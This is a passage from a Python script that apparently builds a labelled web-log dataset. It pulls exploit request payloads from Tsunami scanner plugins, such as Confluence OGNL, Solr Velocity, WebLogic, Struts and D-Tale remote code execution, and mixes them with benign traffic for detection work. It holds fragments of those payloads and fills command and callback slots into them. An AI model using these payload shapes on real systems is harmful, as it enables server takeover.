            'CMDC': cmdc, 'CMDP': cmdp, 'CB': cb, 'CBF': urllib.parse.quote_plus(cb), 'CBHOST': cb,
            'UUID': str(uuid.UUID(int=r.getrandbits(128), version=4)), 'HEX8': '%08x' % r.getrandbits(32),
            'HEX16': '%016x' % r.getrandbits(64), 'HEX32': '%032x' % r.getrandbits(128),
            'EPOCHMS': str(int((DAY - datetime.datetime(1970, 1, 1)).total_seconds() * 1000) + r.randint(0, 86399999)), 'HEX40': '%040x' % r.getrandbits(160),
            'NAME': self.token(10), 'TOKEN': self.token(8), 'NUM': str(r.randint(1, 40)),
            'CORE': r.choice(['collection1', 'gettingstarted', 'techproducts', 'demo', 'products']),
            'MODEL': r.choice(['tsunami-', 'tsunami_model_', 'poc']) + self.token(6),
            'RNG': r, 'PROJ': r.choice(['PUB', 'OSS', 'DEV', 'TOOLS']), 'SLURMV': r.choice(['v0.0.39', 'v0.0.40', 'v0.0.41']),
        }

def derived(repo, v):
    """placeholders whose text is read from the plugin at the commit"""
    d = {}
    p, n = find_line(repo, 'Cve202431982Detector.java', '"%7D%7D%7D%7B%7Basync')
    d['XWIKIP'] = lits_on(repo.line(p, n))
    p, n = find_line(repo, 'SolrVelocityTemplateRceDetector.java', '"%23set($x=\'TSUNAMI\')+"')
    d['VELOCITY'] = ''.join(lits_on(repo.line(p, n + k)) for k in range(4))
    p, n = find_line(repo, 'WebLogicAdminConsoleRceDetector.java', '"%%22weblogic.work.ExecuteThread')
    fmt = lits_on(repo.line(p, n))
    assert fmt.count('%s') == 1
    # JAVA interpretation environment: Tsunami's Java payload is not in this repository; a
    # String.format of the usual start/end markers stands in for it (README, doubts)
    d['JAVAP'] = 'String.format("%%s%%s%%s", "TSUNAMI_PAYLOAD_START", "%s", "TSUNAMI_PAYLOAD_END")' % v['TOKEN']
    d['WLEXPR'] = fmt.replace('%%', '\0').replace('%s', d['JAVAP'].replace('"', '%22').replace(' ', '%20')).replace('\0', '%')
    p, n = find_line(repo, 'ApacheStrutsNamespaceRceDetector.java', 'PAYLOAD_STRING = "${')
    d['STRUTSNS'] = urllib.parse.quote_plus(lits_on(repo.line(p, n)))
    p, n = find_line(repo, 'Cve20250655VulnDetector.java', '"@pd.core.frame.com.builtins.__import__')
    d['DTALEQ'] = urllib.parse.quote_plus(lits_on(repo.line(p, n)).replace('{{PAYLOAD}}', v['CMD']))
    p, n = find_line(repo, 'Dtale_ExposedUI.textproto', '{ name: "payload" value: "%40pd.core')
    d['DTALEX'] = lits_on(repo.line(p, n).split('value:', 1)[1]).replace('{{ T_CBS_URI }}', v['CB'])
    p, n = find_line(repo, 'GrafanaArbitraryFileReadingDetector.java', '"public/plugins/{plugin}/')
    plugins = ['alertlist', 'annolist', 'barchart', 'bargauge']
    assert all('"%s",' % x in repo.show(p) for x in plugins)
    d['GRAFANA'] = const_from(repo, p, n).replace('{plugin}', v['RNG'].choice(plugins))
    d['GRAFANA2'] = const_from(repo, p, n).replace('{plugin}', v['RNG'].choice(['annolist', 'barchart', 'bargauge']))
    p, n = find_line(repo, 'ConfluenceOgnlInjectionRceDetector.java', '"%%24%%7B%%28%%23a%%3D%%40org.apache.commons.io.IOUtils')
    fmt = lits_on(repo.line(p, n))
    hp, hn = find_line(repo, 'ConfluenceOgnlInjectionRceDetector.java', 'RCE_HEADER = "')
    header = lits_on(repo.line(hp, hn))
    assert fmt.count('%s') == 2 and header == 'x-cmd-response'
    d['CONF2'] = fmt.replace('%%', '\0') % (v['CMDP'].replace(' ', '%20').replace('%s', '%25s'), header)
    d['CONF2'] = d['CONF2'].replace('\0', '%')
    b64 = [f for f in repo.files if f.endswith('/cve202135464/payload.b64')]
    d['OPENAMB64'] = ''.join(repo.show(b64[0]).split())
    return d


# ----------------------------------------------------------------- on the wire
# Tsunami's HttpClient is built on OkHttp: HttpUrl.parse percent-encodes what a URL may not
# carry raw and keeps existing %XX.  Path: ' "<>^`{|}\' and non-ASCII; query: ' "\'<>#' and
# non-ASCII (OkHttp keeps {}|^` raw in a query).  A lone '%' becomes %25.  Dot segments are
# kept as the plugin wrote them (several plugins use sendAsIs for this).
def enc(part, unsafe):
    out, i = [], 0
    while i < len(part):
        c = part[i]
        if c == '%' and re.match(r'%[0-9A-Fa-f]{2}', part[i:i + 3]):
            out.append(part[i:i + 3]); i += 3; continue
        if c == '%' or c in unsafe or not (0x21 <= ord(c) <= 0x7e):
            out.append(''.join('%%%02X' % b for b in c.encode('utf-8')))
        else:
            out.append(c)
        i += 1
    return ''.join(out)

def on_wire(target):
    if '?' in target:
        path, query = target.split('?', 1)
        return enc(path, ' "<>^`{|}\\') + '?' + enc(query, ' "\'<>#')
    return enc(target, ' "<>^`{|}\\')

def fill(template, v):
    def sub(m):
        k = m.group(1)
        if k not in v:
            raise KeyError(k)
        return v[k]
    return re.sub(r'\{([A-Z0-9]+)\}', sub, template)

def build_rows(repo):
    fr = Fill(repo)
    rows = []
    for name, ln, quote, method, tmpl, place, cat, tech, step in REQUESTS:
        path = repo.resolve(name)
        text = repo.line(path, ln)
        if quote not in text:
            sys.exit('%s:%d does not hold %r (line: %r)' % (path, ln, quote, text.strip()[:120]))
        v = fr.row(callback=fr.r.random() < 0.5)
        v.update(derived(repo, v))
        v['LIT'] = lits_on(text.split('uri:', 1)[1]) if name.endswith('.textproto') else lits_on(text)
        v['CONST'] = const_from(repo, path, ln)
        # the plugin's own %s / {{ }} placeholders must not survive into a literal used whole
        target = fill(tmpl, v)
        chk = target
        for k in ('CMD', 'CMDF', 'CMD20', 'CMDC', 'CMDP', 'JAVAP', 'DTALEQ', 'CONF2'):
            chk = chk.replace(v[k], '').replace(v[k].replace(' ', '%20'), '').replace(v[k].replace('"', '%22').replace(' ', '%20'), '')
        assert '{{' not in chk and not re.search(r'%[sd](?![0-9A-Fa-f])', chk.replace('%%', '')), (name, target)
        if not target.startswith('/'):
            target = '/' + target
        wire = target if 'sendAsIs' in step else on_wire(target)
        assert ' ' not in wire and all(0x21 <= ord(c) <= 0x7e for c in wire), wire
        rows.append(dict(name=name, path=path, line=ln, quote=quote, method=method, target=wire, place=place,
                         category=cat, technique=tech, step=step,
                         body='yes' if 'body' in place else 'no'))
    return rows


# ----------------------------------------------------------------- write
STATUS_ATTACK = [(404, 60), (403, 12), (200, 16), (500, 12)]

def plugin_dirs(repo):
    ds = set()
    for f in repo.files:
        m = re.match(r'^((?:google|community|doyensec)/detectors/.+?)/src/main/java/', f)
        if m:
            ds.add(m.group(1))
        elif f.startswith('templated/templateddetector/plugins/') and f.endswith('.textproto') \
                and not f.endswith('_test.textproto') and '/examples/' not in f:
            ds.add(f)
    return sorted(ds)

def plugin_of(row, dirs):
    if row['path'].startswith('templated/'):
        return row['path']
    hits = [d for d in dirs if row['path'].startswith(d + '/')]
    return max(hits, key=len)

def main():
    args = [a for a in sys.argv[1:] if not a.startswith('--')]
    if '--check-only' in sys.argv:
        sys.exit(0 if check() else 1)
    if len(args) != 1:
        sys.exit('usage: gen.py MIRROR [--check|--pools]  or  gen.py --check-only')
    repo = Repo(args[0])
    rows = build_rows(repo)
    dirs = plugin_dirs(repo)
    per = collections.Counter(plugin_of(x, dirs) for x in rows)
    assert max(per.values()) <= 2, per.most_common(3)
    for d in LEFT_OUT:
        assert d in dirs and d not in per, d
    missing = [d for d in dirs if d not in per and d not in LEFT_OUT]
    if '--pools' in sys.argv:
        for d in dirs:
            print('%-95s %s' % (d, per[d] if d in per else ('left out: ' + LEFT_OUT[d] if d in LEFT_OUT else 'NOT COVERED')))
        print('%d plugins, %d with rows, %d left out, %d not covered' % (len(dirs), len(per), len(LEFT_OUT), len(missing)))
        return
    if missing:
        sys.exit('plugins neither used nor left out: %s' % ' '.join(missing))
    r = random.Random(SEED)
    r.shuffle(rows)
    used, others = set(), other_sets_addresses()
    used |= others
    secs = sorted(r.sample(range(60, 86340), len(rows)))
    lines, labels, tsv = [], [], []
    for x, s in zip(rows, secs):
        ip = pick_v6(r, used, ATTACK_NET)
        t = DAY + datetime.timedelta(seconds=s)
        st = weighted(r, STATUS_ATTACK)
        req = '%s %s HTTP/1.1' % (x['method'], x['target'])
        lines.append(line(ip, t, req, st, size(r, st, x['target'], x['method']), '-', UA[r.choice(DESKTOP)]))
        labels.append((ip, '%s\tattack\t%s\t%s' % (ip, x['category'], x['technique'])))
        tsv.append((ip, '\t'.join([ip, x['category'], x['technique'], x['path'], str(x['line']), esc(x['quote']),
                                   x['step'], x['method'], esc(req), x['place'], x['body'], COMMIT])))
    blines, blabels = [], []
    for kind, fn, count in BENIGN_KINDS:
        for i in range(count):
            ip = pick_v6(r, used, BENIGN_NET)
            ua = UA[r.choice(ANY_BROWSER)]
            tt = DAY + datetime.timedelta(seconds=r.randint(15 * 60, 23 * 3600))
            for method, target, ref, st in fn(r, i):
                asset = target.split('?')[0].endswith(ASSET_EXT)
                tt += datetime.timedelta(seconds=r.randint(0, 2) if asset else r.randint(3, 90))
                if asset and st == 200 and r.random() < 0.2:
                    st = 304
                blines.append((tt, line(ip, tt, '%s %s HTTP/1.1' % (method, target), st, size(r, st, target, method),
                                        ref, ua)))
            blabels.append((ip, '%s\tbenign\t%s' % (ip, kind)))
    blines.sort(key=lambda x: x[0])
    assert blines[-1][0] < DAY + datetime.timedelta(days=1)
    srt = lambda xs: [v for _, v in sorted(xs, key=lambda x: ipkey(x[0]))]
    out = {
        'attacks.log': lines,
        'attacks.labels': srt(labels),
        'requests.tsv': ['ADDRESS\tCATEGORY\tTECHNIQUE\tPLUGIN_FILE\tLINE\tQUOTED\tSTEP\tMETHOD\tREQUEST_LINE'
                         '\tPAYLOAD_PLACE\tBODY\tCOMMIT'] + srt(tsv),
        'benign.log': [l for _, l in blines],
        'benign.labels': srt(blabels),
    }
    for fname, xs in out.items():
        with open(os.path.join(OUT, fname), 'w', encoding='ascii', newline='\n') as f:
            f.write(''.join(x + '\n' for x in xs))
    cnt = collections.Counter(x['category'] for x in rows)
    meth = collections.Counter(x['method'] for x in rows)
    print('wrote %d attacking sources from %d plugins (%s), %d benign sources, %d benign lines'
          % (len(lines), len(per), ', '.join('%s %d' % kv for kv in sorted(cnt.items())), len(blabels), len(blines)))
    print('methods %s; payload only in the body %d, only in headers %d'
          % (', '.join('%s %d' % kv for kv in sorted(meth.items())),
             sum(1 for x in rows if x['place'] == 'body'), sum(1 for x in rows if x['place'] == 'header')))
    if '--check' in sys.argv:
        sys.exit(0 if check(others) else 1)

if __name__ == '__main__':
    main()
